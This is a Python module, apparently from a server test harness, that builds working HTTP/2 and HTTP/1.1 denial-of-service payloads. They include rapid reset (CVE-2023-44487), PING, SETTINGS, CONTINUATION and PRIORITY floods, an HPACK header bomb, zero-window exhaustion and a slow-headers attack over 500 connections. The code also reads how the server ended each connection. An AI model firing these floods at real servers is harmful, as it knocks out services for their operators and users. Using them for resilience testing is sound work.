"""What floods consist of: the bytes that clients who mean harm send. Pure.

A stream cannot be used twice, so requests stand in ``Flood.begin``. ``Flood.again`` is sent as long as the connection
lives; where it is empty the client waits for what comes of the beginning.
"""

from collections.abc import Sequence
from dataclasses import dataclass

from h2.errors import ErrorCodes
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY = b"\x00\x00\x08\x07\x00\x00\x00\x00\x00"
"""A GOAWAY frame without debug data, up to its last stream."""
LARGE = "/large"
"""The path whose answer is larger than anything that a client may have kept for it."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Flood:
    """One kind of harm."""

    title: str
    begin: bytes = b""
    again: bytes = b""
    connections: int = 1
    reads: bool = True
    """Whether the client reads what the server says."""
    pause: float = 0.0
    """Seconds between one ``again`` and the next."""


def frames(*each: Frame) -> bytes:
    """As they go over the wire."""
    return b"".join(frame.serialize() for frame in each)


def start(*more: Frame, **settings: int) -> bytes:
    """How an HTTP/2 connection begins; settings by their names in hyperframe's SettingsFrame."""
    values = {getattr(SettingsFrame, name): value for name, value in settings.items()}
    return PREFACE + frames(SettingsFrame(settings=values), *more)


def request(path: str = "/", *fields: tuple[str, str]) -> bytes:
    """Fields of a GET, for as many frames as wanted: nothing in it refers to what was sent before it."""
    pseudo = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", path)]
    encoder = Encoder()
    encoder.header_table_size = 0
    return encoder.encode([*pseudo, *fields])


def bomb(size: int = 4000, references: int = 12_000) -> bytes:
    """One large field, and then references to it, one byte each: 16 KB that unpack to 48 MB."""
    encoded: bytes = Encoder().encode([(":method", "GET"), ("x", "b" * size)], huffman=False)
    return encoded + b"\xbe" * references


def rapid_resets(count: int = 900) -> bytes:
    """Requests that are reset in the same breath (CVE-2023-44487)."""
    fields = request()
    pairs = (
        (HeadersFrame(number, fields, flags=["END_HEADERS", "END_STREAM"]), RstStreamFrame(number, ErrorCodes.CANCEL))
        for number in range(1, 2 * count, 2)
    )
    return start(*(frame for pair in pairs for frame in pair))


def large_answers(streams: int = 50) -> bytes:
    """As many large answers, for none of which there is a window."""
    fields = request(LARGE)
    asked = [HeadersFrame(2 * each + 1, fields, flags=["END_HEADERS", "END_STREAM"]) for each in range(streams)]
    return start(*asked, INITIAL_WINDOW_SIZE=0)


PINGS = frames(PingFrame(opaque_data=b"12345678")) * 1000
SETTINGS = frames(SettingsFrame(settings={SettingsFrame.HEADER_TABLE_SIZE: 4096})) * 1000
PRIORITIES = frames(*(PriorityFrame(number, stream_weight=1) for number in range(1, 2001, 2)))

FLOODS: Sequence[Flood] = (
    Flood(title="none"),
    Flood(title="rapid reset", begin=rapid_resets()),
    Flood(title="PING, acknowledgements read", begin=start(), again=PINGS),
    Flood(title="PING, nothing read", begin=start(), again=PINGS, reads=False),
    Flood(title="SETTINGS, acknowledgements read", begin=start(), again=SETTINGS),
    Flood(title="SETTINGS, nothing read", begin=start(), again=SETTINGS, reads=False),
    Flood(
        title="CONTINUATION",
        begin=start(HeadersFrame(1, request())),
        again=frames(ContinuationFrame(1, b"\x00\x01x\x01y" * 10)) * 100,
    ),
    Flood(title="PRIORITY", begin=start(), again=PRIORITIES),
    Flood(title="header bomb (HPACK)", begin=start(HeadersFrame(1, bomb(), flags=["END_HEADERS", "END_STREAM"]))),
    Flood(
        title="window 0: 20 connections, 50 streams of 1 GB each", begin=large_answers(), connections=20, reads=False
    ),
    Flood(
        title="slow heads: 500 connections, a byte each 0.1 s",
        begin=b"GET / HTTP/1.1\r\nHost: a\r\nX: ",
        again=b"x",
        connections=500,
        pause=0.1,
    ),
)


def ending(tail: bytes) -> str:
    """How the server ended a connection, from the last that it said."""
    at = tail.rfind(GOAWAY)
    if at >= 0 and len(tail) >= at + 17:
        return f"GOAWAY {ErrorCodes(int.from_bytes(tail[at + 13 : at + 17], 'big')).name}"
    if (at := tail.rfind(b"HTTP/1.1 ")) >= 0:
        return tail[at + 9 : at + 12].decode("ascii")
    return "closed"
